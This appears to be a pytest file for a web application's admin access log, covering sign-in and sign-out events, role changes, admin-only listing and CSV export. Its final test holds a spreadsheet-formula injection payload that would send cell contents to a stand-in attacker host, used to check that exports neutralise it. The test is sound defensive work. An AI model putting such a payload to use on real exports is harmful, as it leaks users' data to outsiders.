"""The access audit trail: sign-ins, refused sign-ins, sign-outs, role changes and (de)activations, with
who and from where, kept in the database and listed for admins only."""

from __future__ import annotations

import csv
import io

from harness.web import sign_in
from tests.fixtures.web import AuthActions, make_user
from tests.test_sessions import edit_user, signed_in_client
from webapp.extensions import db
from webapp.models import AccessEvent, AccessEventKind, Role, User

ADDRESS = "127.0.0.1"
"""Where the test client's requests come from."""


def events() -> list[tuple[AccessEventKind, str, str | None, str | None, str | None]]:
    """Every access event, oldest first: what, account, by whom, from where, detail."""
    db.session.rollback()
    rows = db.session.scalars(db.select(AccessEvent).order_by(AccessEvent.happened_at)).all()
    return [(e.kind, e.email, e.actor.email if e.actor else None, e.address, e.detail) for e in rows]


def test_sign_in_a_refused_sign_in_and_sign_out_are_recorded(app, client):
    make_user("agent@example.com")

    assert sign_in(client, "Agent@Example.com", "not the password").status_code == 200
    assert sign_in(client, "nobody@example.com", "not the password").status_code == 200
    AuthActions(client).login(Role.VIEWER, "agent@example.com")
    AuthActions(client).logout()

    recorded = events()
    assert recorded[:2] == [
        (AccessEventKind.SIGN_IN_REFUSED, "agent@example.com", None, ADDRESS, None),
        (AccessEventKind.SIGN_IN_REFUSED, "nobody@example.com", None, ADDRESS, None),
    ]
    assert recorded[-2:] == [
        (AccessEventKind.SIGNED_IN, "agent@example.com", "agent@example.com", ADDRESS, None),
        (AccessEventKind.SIGNED_OUT, "agent@example.com", "agent@example.com", ADDRESS, None),
    ]
    refused = db.session.scalars(db.select(AccessEvent).filter_by(email="agent@example.com")).first()
    assert (
        refused.user_id == db.session.scalars(db.select(User.id).filter_by(email="agent@example.com")).one()
    )


def test_role_changes_and_deactivation_name_the_admin_who_made_them(app):
    target = make_user("agent@example.com", Role.VIEWER)
    admin = signed_in_client(app, "admin@example.com", Role.ADMIN)
    with app.app_context():
        before = len(events())

    edit_user(admin, target, role="operator")
    edit_user(admin, target, role="operator", active=None)
    edit_user(admin, target, role="operator")  # saved unchanged but for active: re-activated

    with app.app_context():
        assert events()[before:] == [
            (
                AccessEventKind.ROLE_CHANGED,
                "agent@example.com",
                "admin@example.com",
                ADDRESS,
                "Viewer → Operator",
            ),
            (AccessEventKind.DEACTIVATED, "agent@example.com", "admin@example.com", ADDRESS, None),
            (AccessEventKind.ACTIVATED, "agent@example.com", "admin@example.com", ADDRESS, None),
        ]


def test_a_change_outside_a_request_is_recorded_from_the_command_line(app):
    user = make_user("agent@example.com", Role.VIEWER)

    user.role = Role.ADMIN
    db.session.commit()

    assert events()[-1] == (
        AccessEventKind.ROLE_CHANGED,
        "agent@example.com",
        None,
        "command line",
        "Viewer → Admin",
    )


def test_the_access_log_is_listed_for_admins_only(app, client, auth):
    auth.login(Role.OPERATOR)
    assert client.get("/admin/access-log/").status_code == 403
    auth.logout()
    auth.login(Role.ADMIN)

    page = client.get("/admin/access-log/?search=operator%40example.com").get_data(as_text=True)

    assert "Signed out" in page and "Signed in" in page and "operator@example.com" in page
    export = client.get("/admin/access-log/export/csv/").get_data(as_text=True)
    assert "signed_out,operator@example.com" in export.replace('"', "")


def test_a_refused_sign_in_with_control_characters_is_recorded_without_them(app, client):
    assert sign_in(client, "\x00nobody\x07@example.com", "not the password").status_code == 200

    assert events()[-1][:2] == (AccessEventKind.SIGN_IN_REFUSED, "nobody@example.com")


def test_a_formula_typed_as_the_e_mail_at_sign_in_is_exported_as_text(app, client, auth):
    typed = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")'
    assert sign_in(client, typed, "not the password").status_code == 200
    auth.login(Role.ADMIN)

    export = client.get("/admin/access-log/export/csv/").get_data(as_text=True)

    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
    assert "'" + typed.lower() in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
